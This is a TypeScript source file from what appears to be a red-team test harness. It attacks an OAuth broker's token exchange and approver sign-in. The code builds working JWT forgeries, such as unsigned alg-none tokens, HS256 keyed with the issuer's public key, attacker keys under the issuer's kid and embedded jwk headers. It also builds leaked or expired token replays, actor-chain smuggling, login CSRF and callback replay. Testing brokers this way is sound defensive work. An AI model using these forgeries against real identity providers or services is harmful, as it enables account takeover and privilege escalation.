/**
 * Attacks on the identity of agents and approvers that sign in without a
 * person at a browser, for the `oauth` corpus step: token exchange (RFC 8693)
 * with forged, leaked or mislabelled workload tokens, and approver sign-in at
 * the IdP with a hijacked or replayed callback, or without an approver role.
 * The red team's IdP (idp.ts) is the brokers' trusted workload issuer
 * `rt-workload` and their approvers' IdP. An attack that works ends with a
 * capability token or an approver session in the attacker's hands.
 *
 * @example
 *   const outcome = await headlessAttack(target, 'exchange_forgery');
 */
import { createHmac, randomUUID } from 'node:crypto';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import { APPROVER_SSO_CALLBACK, APPROVER_SSO_START } from '../identity/approver-sign-in.ts';
import { CLI_CLIENT_ID, TOKEN_EXCHANGE } from '../identity/grants/token-exchange.ts';
import { OUTSIDER, VICTIM } from './idp.ts';
import { CookieJar, refused, type OAuthOutcome } from './oauth.ts';
import { PRIVILEGED_NAMESPACE, WORKLOAD_NAMESPACE, type Target } from './target.ts';

export const HEADLESS_ATTACKS = ['exchange_forgery', 'exchange_actor_smuggling', 'approver_sign_in_forgery', 'approver_without_role'] as const;
export type HeadlessAttack = (typeof HEADLESS_ATTACKS)[number];

const JWT = 'urn:ietf:params:oauth:token-type:jwt';
const now = () => Math.floor(Date.now() / 1000);
const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A service account's claims as a Kubernetes API server signs them. */
function serviceAccount(issuer: string, audience: string, namespace: string, name: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { iss: issuer, sub: `system:serviceaccount:${namespace}:${name}`, aud: [audience], iat: now(), exp: now() + 300, 'kubernetes.io': { namespace, serviceaccount: { name } }, ...extra };
}

async function exchange(target: Target, params: Record<string, string>): Promise<{ ok: boolean; body: Record<string, string> }> {
  const response = await fetch(`${target.origin}/oauth/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ grant_type: TOKEN_EXCHANGE, client_id: CLI_CLIENT_ID, subject_token_type: JWT, ...params }),
  });
  return { ok: response.status === 200, body: (await response.json().catch(() => ({}))) as Record<string, string> };
}

/** Tries each attempt in turn; the first token issued is the breach. */
async function firstIssued(target: Target, attempts: [string, Record<string, string>][], stopped: string): Promise<OAuthOutcome> {
  let last: Record<string, string> = {};
  const why: string[] = [];
  for (const [what, params] of attempts) {
    const answer = await exchange(target, params);
    if (answer.ok) return { ok: true, token: answer.body.access_token!, note: `token exchange issued a token for ${what}` };
    last = answer.body;
    // The stage-1 code the description names (subject_token refused (CODE): …), else the OAuth error.
    why.push(`${what}: ${/\((BASTION_[A-Z_]+)\)/.exec(answer.body.error_description ?? '')?.[1] ?? answer.body.error_description ?? answer.body.error ?? 'refused'}`);
  }
  return { ok: false, refusal: refused(last), note: `${attempts.length} ${stopped} refused (${why.join('; ')})` };
}

/** The browser: follows redirects across the broker and the IdP until `stop` says so (or a page). */
async function follow(jar: CookieJar, start: URL, stop: (url: URL) => boolean): Promise<{ url: URL; status: number; cookies: string[] }> {
  let url = start;
  for (let hop = 0; hop < 20; hop++) {
    if (hop > 0 && stop(url)) return { url, status: 0, cookies: [] };
    const response = await fetch(url, { redirect: 'manual', headers: { cookie: jar.header(url) } });
    jar.store(url, response);
    const location = response.headers.get('location');
    if (!location) return { url, status: response.status, cookies: response.headers.getSetCookie() };
    url = new URL(location, url);
  }
  throw new Error('the sign-in did not end within 20 hops');
}

/** Opens the IdP callback URL in a browser; says whether an approver session came of it. */
async function openCallback(jar: CookieJar, callback: URL): Promise<{ session: boolean; status: number }> {
  const response = await fetch(callback, { redirect: 'manual', headers: { cookie: jar.header(callback) } });
  jar.store(callback, response);
  return { session: response.headers.getSetCookie().some((c) => c.startsWith('bastion_approver=')), status: response.status };
}

/** A browser signed in at the IdP as `user`, sent from the approval page to the IdP and stopped at the broker's callback. */
async function callbackFor(target: Target, user: string): Promise<{ jar: CookieJar; callback: URL }> {
  const jar = new CookieJar();
  const as = new URL(`${target.idp!.issuer}/as/${user}`);
  jar.store(as, await fetch(as));
  const { url } = await follow(jar, new URL(`${target.origin}${APPROVER_SSO_START}`), (u) => u.origin === target.origin && u.pathname === APPROVER_SSO_CALLBACK);
  if (url.pathname !== APPROVER_SSO_CALLBACK) throw new Error(`approver sign-in did not reach the callback: ${url.href}`);
  return { jar, callback: url };
}

/** Runs one attack against a target broker's headless grants or approver sign-in. */
export async function headlessAttack(target: Target, attack: HeadlessAttack): Promise<OAuthOutcome> {
  const idp = target.idp;
  if (!idp) throw new Error('the headless-identity cases need the red team IdP (the operator configured their own)');
  switch (attack) {
    case 'exchange_forgery': {
      // The attacker's workload may echo; it wants a token for rt-ops, whose workloads may do anything.
      const privileged = () => serviceAccount(idp.issuer, target.resource, PRIVILEGED_NAMESPACE, 'deployer');
      const attacker = await generateKeyPair('ES256', { extractable: true });
      const attackerKid = { alg: 'ES256', kid: String((idp.publicJwk as { kid?: string }).kid) };
      const hmacInput = `${part({ alg: 'HS256', kid: attackerKid.kid })}.${part(privileged())}`;
      const attempts: [string, Record<string, string>][] = [
        ['an unsigned token (alg none)', { subject_token: `${part({ alg: 'none' })}.${part(privileged())}.` }],
        ['HS256 keyed with the issuer’s public key', { subject_token: `${hmacInput}.${createHmac('sha256', JSON.stringify(idp.publicJwk)).update(hmacInput).digest('base64url')}` }],
        ['a token signed by the attacker under the issuer’s kid', { subject_token: await new SignJWT(privileged()).setProtectedHeader(attackerKid).sign(attacker.privateKey) }],
        ['a token from the attacker’s own issuer', { subject_token: await new SignJWT({ ...privileged(), iss: 'https://issuer.attacker.example' }).setProtectedHeader({ alg: 'ES256', kid: 'attacker' }).sign(attacker.privateKey) }],
        ['a token carrying its own verification key (jwk header)', { subject_token: await new SignJWT(privileged()).setProtectedHeader({ ...attackerKid, jwk: await exportJWK(attacker.publicKey) }).sign(attacker.privateKey) }],
        ['a leaked rt-ops token made for another server', { subject_token: await idp.signWorkloadToken({ ...privileged(), aud: ['https://other-service.example'] }) }],
        ['a leaked rt-ops token that expired', { subject_token: await idp.signWorkloadToken({ ...privileged(), iat: now() - 900, exp: now() - 300 }) }],
        ['a leaked rt-ops token living a day', { subject_token: await idp.signWorkloadToken({ ...privileged(), exp: now() + 86_400 }) }],
        ['an ID token Bastion got as relying party, shown as a workload token', { subject_token: await idp.signWorkloadToken({ iss: idp.issuer, sub: VICTIM, aud: 'bastion', iat: now(), exp: now() + 300, 'kubernetes.io': { namespace: PRIVILEGED_NAMESPACE } }) }],
        ['an rt-ops token typed as an ID-JAG', { subject_token: await idp.signWorkloadToken(privileged(), { typ: 'oauth-id-jag+jwt' }) }],
      ];
      return firstIssued(target, attempts, 'forged or leaked workload tokens');
    }
    case 'exchange_actor_smuggling': {
      const own = (extra: Record<string, unknown> = {}) => idp.signWorkloadToken(serviceAccount(idp.issuer, target.resource, WORKLOAD_NAMESPACE, `attacker-${randomUUID().slice(0, 8)}`, extra));
      const attempts: [string, Record<string, string>][] = [
        [
          'an actor the subject token does not authorize (may_act names another)',
          { subject_token: await own({ may_act: { sub: `system:serviceaccount:${PRIVILEGED_NAMESPACE}:deployer` } }), actor_token: await own(), actor_token_type: JWT },
        ],
        ['an actor token hiding its own act chain', { subject_token: await own(), actor_token: await own({ act: { sub: 'user:someone-else' } }), actor_token_type: JWT }],
        ['a subject token whose act is a list (to be flattened away)', { subject_token: await own({ act: [{ sub: 'user:hidden' }] }) }],
        ['a subject token whose act link has no subject', { subject_token: await own({ act: { sub: 'user:a', act: { client_id: 'x' } } }) }],
      ];
      return firstIssued(target, attempts, 'smuggled actors and act chains');
    }
    case 'approver_sign_in_forgery': {
      // Login CSRF: the IdP's answer for the attacker's sign-in, opened in the victim's browser.
      const attacker = await callbackFor(target, VICTIM);
      const victimBrowser = new CookieJar();
      const hijacked = await openCallback(victimBrowser, attacker.callback);
      if (hijacked.session) return { ok: true, note: "another browser was signed in with the attacker's IdP answer (login CSRF)" };
      // The attacker's own browser finishes (a setup: it holds the approver role), then replays the same answer.
      const own = await openCallback(attacker.jar, attacker.callback);
      if (!own.session) throw new Error(`the approver's own sign-in failed (HTTP ${own.status})`);
      const replayed = await openCallback(attacker.jar, attacker.callback);
      if (replayed.session) return { ok: true, note: 'a replayed IdP answer opened a second approver session' };
      return { ok: false, refusal: { stage: 'authorization_server', code: 'access_denied', reason: 'state mismatch' }, note: `a hijacked and a replayed IdP answer opened no session (HTTP ${hijacked.status}, ${replayed.status})` };
    }
    case 'approver_without_role': {
      const { jar, callback } = await callbackFor(target, OUTSIDER);
      const opened = await openCallback(jar, callback);
      return opened.session
        ? { ok: true, note: 'someone whose groups hold no approver role got an approver session' }
        : { ok: false, refusal: { stage: 'authorization_server', code: 'access_denied', reason: 'no approver role' }, note: `signed in at the IdP without an approver role: HTTP ${opened.status}, no session` };
    }
  }
}
